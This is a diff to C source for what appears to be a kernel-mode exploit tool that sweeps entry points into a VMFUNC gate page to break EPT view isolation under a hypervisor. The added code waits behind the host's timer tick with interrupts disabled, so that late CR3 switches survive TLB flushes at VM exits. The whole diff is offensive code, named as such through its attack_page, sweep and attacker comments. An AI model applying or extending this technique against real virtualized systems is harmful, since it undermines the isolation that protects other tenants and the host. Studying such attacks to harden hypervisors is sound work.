@@ -17,6 +17,10 @@
 #define CODE_SIZE 0x80        /* of the gate page; the rest is fill */
 #define HOLE_GPA  0x3000000000ULL
 
+#define TICKS  250000 /* of the TSC: more than one of the timer's, guest's or host's */
+#define EXIT   1000   /* what an exit takes at least */
+#define ENOUGH (4 * TICKS)
+
 /* With CR3 elsewhere each entry takes the host a while: of the fill, which is all alike, some samples. */
 static unsigned int next(unsigned int offset, bool late_cr3)
 {
@@ -34,6 +38,36 @@ static enum landing enter(struct attack_page *page, struct jump *jump, unsigned 
 }
 
 /*
+ * Between MOV CR3 and VMFUNC it is the TLB that leads on.  An emulated CPU empties it at an exit, and where CR3 leads
+ * to no RAM, the VM is lost then.  With interrupts off the guest's own timer makes one exit at most; right behind
+ * one that comes later, the host's next tick is far.
+ */
+static void await_tick(void)
+{
+	u64 start = rdtsc(), last = start, now;
+
+	for (;; last = now) {
+		native_irq_disable(); /* an emulated CPU may look for the host's interrupts only then */
+		now = rdtsc();
+		if (now - start > ENOUGH || (now - start > TICKS && now - last > EXIT))
+			return;
+	}
+}
+
+static enum landing enter_behind_tick(struct attack_page *page, struct jump *jump,
+				      unsigned int offset, u64 late_cr3)
+{
+	enum landing landing;
+	unsigned long flags;
+
+	local_irq_save(flags);
+	await_tick();
+	landing = enter(page, jump, offset, late_cr3);
+	local_irq_restore(flags);
+	return landing;
+}
+
+/*
  * Below the window, CR3 is as good as any to the gate.  From where it lets an entry through, it leads back to
  * view 0, and there an attacker without page tables is lost, and his VM with him: nothing to be tried.
  */
@@ -47,6 +81,7 @@ static enum outcome sweep(u64 late_cr3, s64 rsp, u64 fill)
 {
 	struct attack_page page;
 	struct jump jump = {.fill = fill};
+	bool has_tables = !late_cr3 || late_cr3 >= SM_PRIVATE_GPA;
 	unsigned int offset, tried = 0, refused = 0, back = 0, first = 0, last = 0;
 
 	if ((late_cr3 && !(__read_cr4() & X86_CR4_PCIDE)) || page_create(&page))
@@ -59,7 +94,7 @@ static enum outcome sweep(u64 late_cr3, s64 rsp, u64 fill)
 		if (is_suicide(&page, &jump, offset, late_cr3))
 			continue;
 		tried++;
-		switch (enter(&page, &jump, offset, late_cr3)) {
+		switch ((has_tables ? enter : enter_behind_tick)(&page, &jump, offset, late_cr3)) {
 		case LANDED_UD:
 			refused++;
 			break;
